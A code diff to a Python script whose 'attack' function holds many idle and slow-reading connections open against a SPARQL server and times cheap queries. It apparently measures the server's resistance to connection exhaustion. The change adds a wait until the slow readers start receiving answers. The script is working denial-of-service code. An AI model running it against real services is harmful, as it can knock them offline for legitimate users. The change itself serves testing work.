@@ -127,7 +127,7 @@ def close_all(socks: list[socket.socket]) -> None:
 
 
 def attack(url: str, idle_count: int, slow_count: int, cheap: int, *, big_path: str | None = None,
-           idle_sources: tuple[str, ...] = ("127.0.0.2", "127.0.0.3", "127.0.0.4"), settle: float = 2.0) -> dict:
+           idle_sources: tuple[str, ...] = ("127.0.0.2", "127.0.0.3", "127.0.0.4"), settle: float = 1.0) -> dict:
     """Open the idle connections and slow readers, then time ``cheap`` queries."""
     parts = urllib.parse.urlsplit(url)
     host, port = parts.hostname, parts.port
@@ -135,7 +135,11 @@ def attack(url: str, idle_count: int, slow_count: int, cheap: int, *, big_path: 
     held_idle = idle(host, port, idle_count, idle_sources)
     held_slow = slow_readers(host, port, slow_count, big_path or sparql_path(BIG_QUERY, prefix + "/sparql"))
     try:
-        time.sleep(settle)  # let the slow readers' queries run and fill their buffers
+        # A result is sent only once its query has finished: when every slow
+        # reader has the first bytes of its answer, what is measured next is
+        # the connections, not query workers still busy with the big queries.
+        answering(held_slow, timeout=30.0)
+        time.sleep(settle)
         answers = cheap_latencies(host, port, cheap, path=sparql_path(CHEAP_QUERY, prefix + "/sparql"))
     finally:
         open_idle = sum(1 for s in held_idle if _still_open(s))
@@ -145,6 +149,25 @@ def attack(url: str, idle_count: int, slow_count: int, cheap: int, *, big_path: 
     return {"idle_opened": len(held_idle), "idle_still_open": open_idle, "slow_opened": len(held_slow),
             "cheap": len(answers), "ok": len(ok), "p95_s": round(p95(answers), 3),
             "max_s": round(max(a.seconds for a in answers), 3), "statuses": sorted({a.status for a in answers})}
+
+
+def answering(socks: list[socket.socket], timeout: float) -> bool:
+    """Wait (at most ``timeout`` seconds) until every socket has bytes to read."""
+    waiting = list(socks)
+    stop = time.monotonic() + timeout
+    while waiting and time.monotonic() < stop:
+        waiting = [s for s in waiting if not _has_bytes(s)]
+        time.sleep(0.1)
+    return not waiting
+
+
+def _has_bytes(sock: socket.socket) -> bool:
+    try:
+        return bool(sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT))
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
 
 
 def _still_open(sock: socket.socket) -> bool:
